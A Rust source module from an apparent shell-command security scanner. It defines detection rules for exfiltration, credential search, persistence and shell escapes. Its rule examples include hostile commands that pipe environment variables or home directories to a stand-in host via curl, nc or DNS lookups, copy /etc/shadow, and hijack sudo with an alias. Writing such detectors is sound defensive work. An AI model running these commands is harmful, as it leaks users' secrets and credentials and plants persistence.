//! Doings that are known by their shape: what is run from where, what is searched for where, what leaves in bulk.
//!
//! In: effects with the class of their paths, what processes search for, programs that run later. Out: findings of the
//! families *execution*, *credentials*, *exfiltration* and *persistence*.

use super::facts::{Power, power};
use super::listed::is_listed;
use super::{Category, Facts, Findings, Rule};
use crate::effect::graph::{Process, ProgramNode, Reach};
use crate::effect::path::{Class, Mark, Resolved};
use crate::effect::{Effect, Language, Object, ProgramId, Props, Site, Verb};
use crate::finding::{Confidence, Severity};
use crate::url::Reach as Far;
use crate::value::{Piece, Why};
use std::collections::HashSet;

pub(super) const RULES: &[Rule] = &[
    Rule {
        id: "temporary_executed",
        title: "Program in a temporary directory is run",
        severity: Severity::Low,
        confidence: Confidence::Medium,
        category: Category::Execution,
        mitre: Some("T1204.002"),
        floor: false,
        description: "A program or script is run that lies where anybody can put files and where nothing is meant to stay, and \
                      this text does not say what is in it. Look at it first, or run it from a directory of its own.",
        remediation: "Look at it first; keep programs in directories that only you can write.",
        good: &["bash ./run.sh", "cat /tmp/x.sh", "python3 /tmp/try.py", "echo 'echo hi' > /tmp/x.sh; sh /tmp/x.sh"],
        bad: &["/tmp/x", "sh /tmp/x.sh", "chmod +x /var/tmp/.x && /var/tmp/.x"],
        check: temporary_executed,
    },
    Rule {
        id: "secret_search",
        title: "Machine is searched for secrets",
        severity: Severity::Medium,
        confidence: Confidence::Medium,
        category: Category::Credentials,
        mitre: Some("T1552.001"),
        floor: false,
        description: "Whole directories of the system or of homes, or the history of a shell, are searched for passwords, keys or \
                      tokens. Search the one project that is meant, and let the program that needs a secret read it itself.",
        remediation: "Search the one project that is meant.",
        good: &["grep -rn password src", "find . -name '*.pem'", "find / -name '*.conf'", "grep -r TODO /etc"],
        bad: &[
            "grep -ri password /etc",
            "find / -name id_rsa",
            "find /home -name '*.kdbx' -exec cp {} x \\;",
            "grep pass ~/.bash_history",
        ],
        check: secret_search,
    },
    Rule {
        id: "bulk_exfiltration",
        title: "Whole directories leave the machine",
        severity: Severity::Medium,
        confidence: Confidence::Medium,
        category: Category::Exfiltration,
        mitre: Some("T1048"),
        floor: false,
        description: "Everything in a home or in a directory of the system goes to another machine, with whatever secrets lie in \
                      it. Send what is needed only, encrypted, to a place that is known.",
        remediation: "Send what is needed only, to a place that is known.",
        good: &["tar cz src | ssh host 'cat > src.tgz'", "tar czf /backup/home.tgz /home"],
        bad: &["tar cz /home | ssh host 'cat > x'", "tar c ~ | nc e.example 9000"],
        check: bulk_exfiltration,
    },
    Rule {
        id: "dns_exfiltration",
        title: "Name that is looked up carries data",
        severity: Severity::High,
        confidence: Confidence::Medium,
        category: Category::Exfiltration,
        mitre: Some("T1048.003"),
        floor: false,
        description: "What is looked up in the name system is made from encoded data, so that whoever runs that part of it gets the \
                      data, past every proxy. Send data where it is meant to go, openly.",
        remediation: "Send data where it is meant to go, openly.",
        good: &["dig example.com", "dig $(hostname).example.com", "nslookup $(cat host.txt)"],
        bad: &["dig $(echo secret | base64).e.example", "nslookup $(xxd -p x.txt).e.example"],
        check: dns_exfiltration,
    },
    Rule {
        id: "environment_exfiltration",
        title: "All variables leave the machine",
        severity: Severity::High,
        confidence: Confidence::Medium,
        category: Category::Exfiltration,
        mitre: Some("T1552.007"),
        floor: false,
        description: "Everything in the environment, tokens and passwords of other programs with it, goes to another machine. \
                      Send the one value that is needed.",
        remediation: "Send the one value that is needed; change the secrets if they have been sent.",
        good: &[
            "env | grep PATH",
            "curl -d \"$USER\" https://api.example/",
            "env FOO=1 curl https://api.example/",
            "env | sort > env.txt",
            "python3 -c \"import os, subprocess; subprocess.run(['ls'], env=dict(os.environ))\"",
        ],
        bad: &[
            "curl -d \"$(env)\" https://e.example/",
            "env | curl -d @- https://e.example/",
            "set | base64 | curl -d @- https://e.example/",
            "export -p > /tmp/e; curl -T /tmp/e https://e.example/",
            "curl -d @<(printenv) https://e.example/",
            "python3 -c \"import os, requests; requests.post('https://e.example', json=dict(os.environ))\"",
        ],
        check: super::sent::surroundings,
    },
    Rule {
        id: "environment_dumped",
        title: "All variables are laid down for others",
        severity: Severity::Low,
        confidence: Confidence::Medium,
        category: Category::Credentials,
        mitre: Some("T1552"),
        floor: false,
        description: "Everything in the environment, tokens and passwords of other programs with it, is written to a temporary \
                      directory, where others may read it and where it stays. Write the one value that is needed, to a file of \
                      your own.",
        remediation: "Write the one value that is needed, to a file of your own.",
        good: &["env > env.txt", "env | grep PATH > /tmp/path", "echo \"$PATH\" > /tmp/path"],
        bad: &["env > /tmp/out", "export -p >> /tmp/e", "printenv | tee /tmp/x"],
        check: super::sent::laid_down,
    },
    Rule {
        id: "accounts_packed",
        title: "List of accounts is packed away",
        severity: Severity::Low,
        confidence: Confidence::Medium,
        category: Category::Credentials,
        mitre: Some("T1560"),
        floor: false,
        description: "The list of accounts or password hashes is copied into an archive, an encrypted or a temporary file, which is \
                      how it is made ready to be taken away. Work on the one entry that is needed (getent).",
        remediation: "Use getent for the one entry that is needed.",
        good: &["cut -d: -f1 /etc/passwd", "cp /etc/passwd /etc/passwd.bak", "grep root /etc/passwd > root.txt"],
        bad: &["tar czf /tmp/x.tgz /etc/passwd", "gzip -c /etc/passwd > x.gz", "cp /etc/shadow /tmp/x"],
        check: accounts_packed,
    },
    Rule {
        id: "deletion_in_expansion",
        title: "Files are deleted while a word is worked out",
        severity: Severity::Low,
        confidence: Confidence::Medium,
        category: Category::Evasion,
        mitre: Some("T1027"),
        floor: false,
        description: "A substitution is there to give text; this one deletes files, which prints nothing, so that a command that \
                      looks harmless has an effect of another kind. Delete in a command of its own.",
        remediation: "Delete in a command of its own.",
        good: &["echo $(ls)", "echo $(rm -f /tmp/x)", "d=$(mktemp -d); rm -rf \"$d\""],
        bad: &["echo hi > $(rm *.txt)", "echo ${x%%$(rm -rf build)}"],
        check: deletion_in_expansion,
    },
    Rule {
        id: "startup_file_commands",
        title: "Commands are laid into a start-up file",
        severity: Severity::Low,
        confidence: Confidence::Medium,
        category: Category::Persistence,
        mitre: Some("T1546.004"),
        floor: false,
        description: "A file that shells run when they start gets commands that do more than set up the shell: they reach the \
                      network, start programs, or change files, in every session from then on. Run them where they are needed.",
        remediation: "Run the command where it is needed; keep start-up files to settings.",
        good: &[
            "echo 'export PATH=\"$HOME/bin:$PATH\"' >> ~/.bashrc",
            "echo \"alias ll='ls -l'\" >> ~/.bashrc",
            "echo 'eval \"$(starship init bash)\"' >> ~/.bashrc",
            "echo 'source ~/.nvm/nvm.sh' >> ~/.zshrc",
        ],
        bad: &["echo 'echo hi > /tmp/x' >> ~/.bash_profile", "echo 'nc -l 4444 &' >> ~/.profile"],
        check: startup_commands,
    },
    Rule {
        id: "alias_override",
        title: "Name of a trusted program stands for another",
        severity: Severity::High,
        confidence: Confidence::Medium,
        category: Category::Persistence,
        mitre: Some("T1546.004"),
        floor: false,
        description: "A program that is given passwords or rights is replaced by something else of the same name, which then gets \
                      them. Give the other program a name of its own.",
        remediation: "Give the other program a name of its own.",
        good: &["alias sudo='sudo '", "alias ll='ls -l'", "alias ssh='ssh -A'"],
        bad: &["alias sudo=/tmp/x", "echo 'alias ssh=\"/tmp/.s\"' >> ~/.bashrc"],
        check: alias_override,
    },
    Rule {
        id: "shell_escape",
        title: "Shell is started from inside another program",
        severity: Severity::Low,
        confidence: Confidence::Medium,
        category: Category::Execution,
        mitre: Some("T1059.004"),
        floor: false,
        description: "A program that edits or shapes text is made to start an interactive shell, which is how bounds that were set \
                      for it are left. Start the shell by itself.",
        remediation: "Start the shell by itself.",
        good: &["awk 'BEGIN { print 1 }'", "awk '{ system(\"date\") }' x"],
        bad: &["awk 'BEGIN { system(\"/bin/sh\") }'", "vim -c ':!/bin/sh'"],
        check: shell_escape,
    },
];

/// Everything in it is meant, not one file: a directory of the system, homes, the root.
fn is_wide(p: &Resolved) -> bool {
    matches!(p.class, Class::Root | Class::SystemDirectory | Class::Homes | Class::Home)
}

/// A file that the text wrote itself: what it does is known from there.
fn is_own(facts: &Facts<'_>, p: &Resolved) -> bool {
    let writes = [Verb::Write, Verb::Append];
    let mut same = facts.with(&writes).filter(|w| facts.path(w).is_some_and(|q| q.text == p.text)).peekable();
    same.peek().is_some() && same.all(|w| facts.sources_with(w, &[Verb::Read, Verb::Fetch]).next().is_none())
}

fn is_shell(language: Language) -> bool {
    matches!(
        language,
        Language::Sh
            | Language::Bash
            | Language::Zsh
            | Language::Ksh
            | Language::Csh
            | Language::PowerShell
            | Language::Cmd
    )
}

fn temporary_executed(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
    let mut seen = HashSet::new();
    // `systemctl link /tmp/x.service`: what a unit in such a place names is run.
    for e in facts.with(&[Verb::Service]) {
        let Object::Named(_, v) = &e.object else { continue };
        let p = facts.resolve(v, e);
        if p.class == Class::Temporary && p.depth() > 1 && facts.props(e).has(Props::ENABLE) {
            out.add(rule.about(facts, e).title(format!("{}: {}", rule.title, p.text)).evidence_as(
                "path",
                "names what is run",
                &p.text,
                e.place,
            ));
        }
    }
    for e in facts.with(&[Verb::Execute, Verb::Read]).filter(|e| !facts.contained(e) && e.site == Site::Local) {
        let Some(p) = facts.path(e).filter(|p| p.class == Class::Temporary && p.is_known() && p.depth() > 1) else {
            continue;
        };
        // `find -exec /tmp/x {} +`: a helper that somebody works with, once for every file.
        if facts.lists_above(e) {
            continue;
        }
        let script = || {
            let code = |x: &&Effect| matches!(&x.object, Object::Code(l, v) if is_shell(*l) && !v.is_known());
            facts
                .with(&[Verb::Evaluate])
                .any(|x| x.process == e.process && code(&x) && x.inputs.iter().any(|f| f.from == e.id))
        };
        // Scripts of general languages are what people try things out with; shells and programs are what is dropped.
        if e.verb == Verb::Read && !script() || is_own(facts, p) || !seen.insert(p.text.clone()) {
            continue;
        }
        out.add(
            rule.about(facts, e)
                .title(format!("{}: {}", rule.title, p.text))
                .evidence_as("path", "is run", &p.text, e.place),
        );
    }
}

fn secret_search(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
    for p in facts.graph.processes.iter().filter(|p| !p.patterns.is_empty()) {
        // Words are searched for in what is read, names of files in what is listed.
        let listed = |noun| p.patterns.iter().find(|v| is_listed(rule.id, noun, &v.show()));
        let (text, file) = (listed("text"), listed("file"));
        if text.is_none() && file.is_none() {
            continue;
        }
        let where_to = facts.with(&[Verb::Read, Verb::List]).find(|e| {
            if e.verb == Verb::Read && text.is_none() || e.verb == Verb::List && file.is_none() {
                return false;
            }
            let searched = facts
                .path(e)
                .is_some_and(|q| q.marks.any(&[Mark::History, Mark::Credential]) || is_wide(q) && !q.is_project());
            // `history | grep pass`: what is searched comes from the one that it is read by.
            (e.process == p.id || feeds(facts, e, p)) && searched && !facts.contained(e)
        });
        let Some(e) = where_to else { continue };
        let Some(pattern) = (if e.verb == Verb::List { file } else { text }) else { continue };
        out.add(
            rule.at(facts, p.place)
                .title(format!("{}: {}", rule.title, pattern.show()))
                .evidence("command_pattern", "is searched for", pattern.place())
                .evidence("path", "is searched", e.place),
        );
    }
}

/// True where what an effect reads is the standard input of a process.
fn feeds(facts: &Facts<'_>, e: &Effect, p: &Process) -> bool {
    let _ = facts;
    p.stdin.as_ref().is_some_and(|v| v.taint().sources().iter().any(|(from, _)| *from == e.id))
}

fn bulk_exfiltration(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
    let mut seen = HashSet::new();
    for sink in facts.with(&[Verb::Send]) {
        if matches!(facts.address(sink).map(|a| a.reach()), Some(Far::Loopback)) {
            continue;
        }
        for (from, _) in facts.sources_with(sink, &[Verb::Read]) {
            let Some(p) = facts.path(from).filter(|p| is_wide(p) && !facts.contained(from)) else { continue };
            if !seen.insert(p.text.clone()) {
                continue;
            }
            // `rsync -a /home/me/ host:`: file by file to a machine that one logs in to is a copy; the root is more.
            let login = facts.address(sink).is_some_and(|a| matches!(a.scheme.as_str(), "" | "ssh" | "scp" | "sftp"));
            let copy = login && sink.process == from.process && matches!(p.class, Class::Home);
            let severity = if copy { Severity::Info } else { rule.severity };
            out.add(
                rule.about(facts, sink)
                    .severity(severity)
                    .also_at(facts.command_place(from))
                    .also(from)
                    .title(format!("{}: {} → {}", rule.title, p.text, sink.object.show()))
                    .evidence_as("path", "is read", &p.text, from.place)
                    .evidence("url", "is where it goes", sink.place),
            );
        }
    }
}

fn accounts_packed(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
    let mut seen = HashSet::new();
    for e in facts.with(&[Verb::Write, Verb::Append, Verb::Update]) {
        let Some(to) = facts.path(e).filter(|_| !facts.contained(e)) else { continue };
        for (from, _) in facts.sources_with(e, &[Verb::Read]) {
            let Some(p) = facts.path(from).filter(|p| p.marks.has(Mark::Accounts)) else { continue };
            let packed = facts.sources_with(e, &[Verb::Encode]).next().is_some() || facts.props(e).has(Props::PACKS);
            let secret = p.marks.has(Mark::Credential) && to.class == Class::Temporary;
            if to.class == Class::HarmlessDevice || !(packed || secret) || !seen.insert(p.text.clone()) {
                continue;
            }
            out.add(
                rule.about(facts, e)
                    .also(from)
                    .title(format!("{}: {} → {}", rule.title, p.text, to.text))
                    .evidence_as("path", "is read", &p.text, from.place)
                    .evidence_as("path", "gets it", &to.text, e.place),
            );
        }
    }
}

fn deletion_in_expansion(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
    let passing = |e: &Effect| facts.path(e).is_some_and(|p| matches!(p.class, Class::Temporary | Class::Cache));
    for e in facts.with(&[Verb::Delete]).filter(|e| !facts.contained(e) && !passing(e)) {
        let Some(program) = facts.process(e).and_then(|p| facts.graph.program(p.program)) else { continue };
        // What a substitution made for itself it may throw away: `$(cd x; make > log; rm log)` prints, too.
        let alone =
            facts.graph.processes.iter().filter(|p| p.program == facts.process(e).map_or(p.program, |q| q.program));
        if program.reach == Reach::Substitution && alone.count() == 1 {
            out.add(rule.about(facts, e).title(format!("{}: {}", rule.title, e.object.show())).evidence(
                "command_pattern",
                "deletes",
                facts.command_place(e),
            ));
        }
    }
}

fn dns_exfiltration(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
    for e in facts.with(&[Verb::Probe]) {
        if let Some((from, _)) = facts.sources_with(e, &[Verb::Encode]).next() {
            out.add(
                rule.about(facts, e)
                    .also(from)
                    .title(format!("{}: {}", rule.title, e.object.show()))
                    .evidence("host", "is looked up", e.place)
                    .evidence("flow", "encodes what it carries", facts.command_place(from)),
            );
        }
    }
}

/// True where the program is such a one, or stands in one.
fn around(facts: &Facts<'_>, id: ProgramId, is: impl Fn(&ProgramNode) -> bool) -> bool {
    let mut next = facts.graph.program(id);
    let mut left = facts.graph.programs.len();
    while let (Some(program), Some(n)) = (next, left.checked_sub(1)) {
        if is(program) {
            return true;
        }
        next = program.parent.and_then(|p| facts.graph.program(p));
        left = n;
    }
    false
}

/// The program is laid down for a shell's start, or stands in one that is.
fn laid_down(facts: &Facts<'_>, id: ProgramId) -> bool {
    around(facts, id, |p| p.reach == Reach::Later && p.language == Language::Bash)
}

fn startup_commands(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
    if !facts.graph.programs.iter().any(|p| p.reach == Reach::Later) {
        return;
    }
    let doing = [
        Verb::Fetch,
        Verb::Send,
        Verb::Connect,
        Verb::Listen,
        Verb::Write,
        Verb::Append,
        Verb::Delete,
        Verb::Schedule,
        Verb::Account,
        Verb::Kill,
    ];
    for e in facts.with(&doing) {
        if matches!(e.object, Object::Stated(_)) {
            continue;
        }
        let Some(p) = facts.process(e).filter(|p| laid_down(facts, p.program)) else { continue };
        // Nothing is kept of what goes to a device that keeps nothing.
        if facts.path(e).is_some_and(|p| p.class == Class::HarmlessDevice) {
            continue;
        }
        out.add(rule.at(facts, p.place).title(format!("{}: {}", rule.title, facts.name(e))).evidence(
            "command_pattern",
            "runs in every session",
            p.place,
        ));
        return;
    }
    // A program of which nothing is known is started by itself: `echo x >> ~/.bashrc`.
    let unknown = |p: &&Process| !p.known && p.argv.first().is_some_and(|w| w.is_known() && w.taint().is_empty());
    let at_top = |p: &&Process| {
        facts.graph.program(p.program).is_some_and(|g| g.reach == Reach::Later && g.language == Language::Bash)
    };
    if let Some(p) = facts.graph.processes.iter().filter(unknown).find(at_top) {
        out.add(rule.at(facts, p.place).title(format!("{}: {}", rule.title, p.name)).evidence(
            "command_pattern",
            "runs in every session",
            p.place,
        ));
    }
}

fn alias_override(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
    for e in facts.with(&[Verb::Configure]) {
        let Object::Named("alias", name) = &e.object else { continue };
        let name = name.show();
        if !is_listed(rule.id, "alias", &name) {
            continue;
        }
        let body = e.other.as_deref().and_then(Object::value).map(|v| v.show()).unwrap_or_default();
        // `alias sudo='sudo '`, `alias ssh='TERM=xterm ssh'`: the program itself, with something around it.
        let itself = body.split_whitespace().any(|w| w.rsplit('/').next() == Some(name.as_str()));
        if !itself {
            out.add(rule.about(facts, e).title(format!("{}: {name}", rule.title)).evidence_as(
                "command_pattern",
                "stands for it",
                format!("{name} = {body}"),
                e.place,
            ));
        }
    }
}

fn shell_escape(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
    let shapes = |l: Language| {
        matches!(
            l,
            Language::Awk
                | Language::Sed
                | Language::Ed
                | Language::Vim
                | Language::Gdb
                | Language::Sql
                | Language::Jq
                | Language::Elisp
        )
    };
    for e in facts.with(&[Verb::Evaluate]).filter(|e| e.inputs.is_empty() && !e.props.has(Props::SIMULATED)) {
        // A shell that takes its commands from whoever sits there.
        let Object::Code(language, code) = &e.object else { continue };
        let asks =
            code.pieces.is_empty() || code.pieces.iter().all(|p| matches!(p, Piece::Unknown(u) if u.why == Why::Stdin));
        if power(*language) != Power::Full || !asks {
            continue;
        }
        let Some(process) = facts.process(e) else { continue };
        if around(facts, process.program, |p| shapes(p.language)) {
            out.add(rule.about(facts, e).title(format!("{}: {}", rule.title, facts.name(e))).evidence(
                "command_pattern",
                "starts a shell",
                facts.command_place(e),
            ));
        }
    }
}
